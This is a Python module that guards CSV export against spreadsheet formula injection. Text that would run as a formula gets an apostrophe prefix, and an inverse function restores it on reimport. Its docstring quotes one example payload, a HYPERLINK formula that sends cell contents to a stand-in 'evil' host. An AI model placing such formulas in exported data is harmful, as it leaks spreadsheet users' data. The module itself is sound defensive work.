"""Cells of every CSV the app writes, safe to open in a spreadsheet.

Excel, LibreOffice and Google Sheets run a text cell that starts with = + - @ (also after
leading blanks), or with a tab or carriage return, as a formula: an event title such as
`=HYPERLINK("http://evil/?"&A1)` would leak the sheet. Such text gets a leading apostrophe,
which spreadsheets show as plain text (OWASP "CSV injection"). Numbers stay numbers: -5 is
data, not a formula, and a quote would turn it into text.

The native importer reads our own CSVs back with `csv_text_value`, the exact inverse.
"""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from typing import Any

FORMULA_START = frozenset("=+-@")
CONTROL_START = frozenset("\t\r\n")
GUARD = "'"


def _runs_as_formula(text: str) -> bool:
    if not text:
        return False
    if text[0] in CONTROL_START:
        return True
    stripped = text.lstrip(" \t\r\n\u00a0\u3000")
    if stripped[:1] in FORMULA_START:
        return True
    # "'=1+1" must survive a round trip through csv_text_value as it was, so a text that
    # already starts with the guard is guarded once more.
    return text[0] == GUARD and _runs_as_formula(text[1:])


def csv_cell(value: Any) -> Any:
    """`value` as a CSV cell: "" for None, numbers unchanged, formula-like text guarded."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.date | dt.datetime):
        return value.isoformat()
    text = str(value)
    return GUARD + text if _runs_as_formula(text) else text


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]


def csv_text_value(text: str) -> str:
    """The text a guarded cell stood for (the inverse of csv_cell for text)."""
    if text.startswith(GUARD) and _runs_as_formula(text[1:]):
        return text[1:]
    return text


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(fh, **kwargs) -> _SafeWriter:
    """`csv.writer(fh, **kwargs)` whose every cell goes through csv_cell."""
    return _SafeWriter(csv.writer(fh, **kwargs))
